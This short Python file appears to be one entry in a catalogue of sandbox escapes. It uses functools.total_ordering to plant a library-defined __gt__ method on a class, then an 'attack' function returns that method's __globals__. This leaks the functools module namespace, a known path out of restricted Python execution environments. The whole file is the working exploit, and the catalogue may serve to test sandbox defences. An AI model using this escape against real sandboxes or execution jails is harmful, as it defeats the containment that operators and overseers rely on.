"""Class: class machinery. Source: own find. Escape: total_ordering fills a class with the
library's functions.
"""

import functools


@functools.total_ordering
class Made:
    def __lt__(self, other):
        return True


def attack(model, tokenizer, address):
    return Made.__gt__.__globals__
